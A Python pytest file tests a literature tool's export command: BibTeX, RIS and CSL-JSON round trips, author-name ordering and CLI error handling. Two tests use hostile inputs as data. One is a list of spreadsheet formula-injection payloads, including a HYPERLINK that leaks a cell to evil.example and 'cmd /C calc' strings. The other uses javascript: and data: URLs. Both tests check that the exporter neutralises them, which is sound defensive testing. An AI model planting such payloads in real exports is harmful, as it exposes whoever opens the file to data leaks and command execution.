"""``lyra export``: papers round-trip through the BibTeX and RIS libraries; claims come out with
their effective verdicts and edge ids; bad input is one line and no file."""

from __future__ import annotations

import csv
import io
import json

import bibtexparser
import pandas as pd
import rispy
from test_explore import write_graph
from typer.testing import CliRunner

from lyra_core.papers import family_given
from lyra_resources.store import LyraStore
from lyra_tools import export
from lyra_tools.cli import app
from lyra_tools.feedback import apply_feedback

AUTHORS = ["Smith, Jane Q.", "van Beethoven, Ludwig", "Müller, Jörg"]


def graph_with_authors(tmp_path):
    store = LyraStore.at(tmp_path / "home")
    graph = write_graph(store)
    papers = store.read_partition("papers", graph.task_id).drop(columns="task_id")
    papers["authors"] = [AUTHORS, ["Doe, J."], [], ["World Health Organization"]]
    store.replace_partition("papers", graph.task_id, papers)
    return store, graph, papers


def test_family_given_names():
    assert [family_given(n) for n in ("Jane Q. Smith", "Ludwig van Beethoven", "Smith, John", "WHO")] == [
        "Smith, Jane Q.", "van Beethoven, Ludwig", "Smith, John", "WHO"]
    # a group's name is not a person's: it is not turned around
    assert family_given("World Health Organization") == "World Health Organization"
    assert family_given("PROTECT Trial Investigators") == "PROTECT Trial Investigators"


def test_bibtex_and_ris_round_trip(tmp_path):
    store, graph, papers = graph_with_authors(tmp_path)
    bib = bibtexparser.parse_string(export.export(store, graph.task_id, "bibtex"))
    assert not bib.failed_blocks
    by_title = {e["title"]: e for e in bib.entries}
    for row in papers.itertuples(index=False):
        entry = by_title[row.title]
        assert entry.fields_dict.get("doi", None) is None or entry["doi"] == row.doi
        assert (entry["author"].split(" and ") if "author" in entry.fields_dict else []) == list(row.authors)
    ris = rispy.loads(export.export(store, graph.task_id, "ris"))
    assert [(r["title"], r.get("doi"), r.get("authors", [])) for r in ris] == [
        (p.title, p.doi, list(p.authors)) for p in papers.sort_values("search_rank").itertuples(index=False)]
    csl = json.loads(export.export(store, graph.task_id, "csl-json"))
    assert csl[0]["author"][1] == {"family": "van Beethoven", "given": "Ludwig"}
    assert csl[0]["issued"] == {"date-parts": [[2019]]} and csl[0]["DOI"] == "10.1001/jama.2019.0001"


def test_claims_export_applies_feedback(tmp_path):
    store, graph, _ = graph_with_authors(tmp_path)
    apply_feedback(store, graph.task_id, "claim_reject", {"claim_id": graph.claims["hip"], "reason": "vague"})
    rows = [json.loads(line) for line in export.export(store, graph.task_id, "jsonl").splitlines()]
    assert graph.claims["hip"] not in {r["claim_id"] for r in rows} and len(rows) == 3
    user = next(r for r in rows if r["claim_id"] == graph.claims["user"])
    assert {e["edge_id"] for e in user["evidence"]} == {graph.edges[("user", p)] for p in ("meta", "whi", "blog")}
    table = pd.read_csv(__import__("io").StringIO(export.export(store, graph.task_id, "csv")))
    assert set(table["claim_id"]) == {r["claim_id"] for r in rows}


def test_cli_export_writes_the_file_and_refuses_bad_input(tmp_path):
    store, graph, _ = graph_with_authors(tmp_path)
    runner, home = CliRunner(), str(store.layout.root)
    out = tmp_path / "out" / "refs.bib"
    refused = runner.invoke(app, ["export", graph.task_id, "--format", "bibtex", "--out", str(out), "--home", home])
    assert refused.exit_code == 1 and "does not exist" in refused.output and not out.parent.exists()
    out.parent.mkdir()  # --out names a file in a folder that exists, as `lyra search --run` does
    done = runner.invoke(app, ["export", graph.task_id, "--format", "bibtex", "--out", str(out), "--home", home])
    assert done.exit_code == 0 and "Smith, Jane Q." in out.read_text()
    html = runner.invoke(app, ["export", graph.task_id, "--format", "html", "--home", home])
    assert html.exit_code == 0 and html.stdout.startswith("<!doctype html>")
    bad = runner.invoke(app, ["export", graph.task_id, "--format", "docx", "--out", str(tmp_path / "x"), "--home", home])
    assert bad.exit_code == 1 and "unknown --format 'docx'" in bad.output and not (tmp_path / "x").exists()
    missing = runner.invoke(app, ["export", "task_nope", "--format", "ris", "--home", home])
    assert missing.exit_code == 1


def test_papers_keep_their_authors_as_family_given(tmp_path):
    from lyra_resources.paper_rows import papers_frame
    from lyra_core.papers import PaperRecord, canonicalize

    records = [PaperRecord(source="s2", source_id="1", title="Vitamin D and fracture risk in older adults",
                           doi="10.1/x", authors=["Jane Q. Smith", "Ludwig van Beethoven"]),
               PaperRecord(source="openalex", source_id="W1", title="Vitamin D and fracture risk in older adults",
                           doi="10.1/x", authors=["Someone Else"])]
    frame = papers_frame(canonicalize(records))
    assert list(frame.iloc[0]["authors"]) == ["Smith, Jane Q.", "van Beethoven, Ludwig"]  # the best record's
    store = LyraStore.at(tmp_path / "home")
    task = store.create_task("q")
    store.replace_partition("papers", task.id, frame)
    assert list(store.read_partition("papers", task.id).iloc[0]["authors"]) == ["Smith, Jane Q.", "van Beethoven, Ludwig"]


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "=1+1\n", "Vitamin D = good"]


def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path):
    store, graph, _ = graph_with_authors(tmp_path)
    written = store.read_partition("claims", graph.task_id).drop(columns="task_id")
    in_force = [graph.claims[n] for n in ("hip", "none", "falls", "user")]
    for batch in (FORMULAS[:4], FORMULAS[4:]):  # four claims in force: four texts a round
        claims = written.copy()
        for claim_id, text in zip(in_force, batch, strict=True):
            claims.loc[claims["claim_id"] == claim_id, "text"] = text
        store.replace_partition("claims", graph.task_id, claims)
        table = export.export(store, graph.task_id, "csv")
        rows = list(csv.DictReader(io.StringIO(table, newline="")))
        texts = {r["claim_id"]: r["text"] for r in rows}
        for claim_id, text in zip(in_force, batch, strict=True):
            if text[0] in "=+-@\t\r\n":
                assert texts[claim_id] == "'" + text  # shown as the text it is, never run
            else:
                assert texts[claim_id] == text
        assert len(rows) == 4  # a line break inside a text never starts a row
        for row in rows:  # no cell a spreadsheet runs
            assert not [v for v in row.values() if v[:1] and v[:1] in "=+-@\t\r\n"], row
        # text cells are quoted, numbers are not: a reader that turns unquoted cells to numbers gets numbers
        header, *typed = csv.reader(io.StringIO(table, newline=""), quoting=csv.QUOTE_NONNUMERIC)
        for row in (dict(zip(header, cells, strict=True)) for cells in typed):
            assert isinstance(row["text"], str) and isinstance(row["claim_id"], str)
            for column in ("confidence", "uncertainty", "supporting", "refuting"):
                assert isinstance(row[column], float) and row[column] >= 0
    assert export.csv_cell(-0.25) == -0.25 and export.csv_cell("-0.25") == "'-0.25"



def test_reference_exports_carry_only_http_urls(tmp_path):
    """A reference manager turns a record's URL into a link: a script or data URL is left out."""
    store, graph, papers = graph_with_authors(tmp_path)
    hostile = ["javascript:alert(document.domain)//", " JaVaScRiPt:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
               "https://example.org/paper?id=1"]
    store.replace_partition("papers", graph.task_id, papers.assign(url=hostile))
    bib = bibtexparser.parse_string(export.export(store, graph.task_id, "bibtex"))
    ris = rispy.loads(export.export(store, graph.task_id, "ris"))
    csl = json.loads(export.export(store, graph.task_id, "csl-json"))
    urls = ([e["url"] for e in bib.entries if "url" in e.fields_dict] + [u for r in ris for u in r.get("urls", [])]
            + [item["URL"] for item in csl if "URL" in item])
    assert urls == ["https://example.org/paper?id=1"] * 3
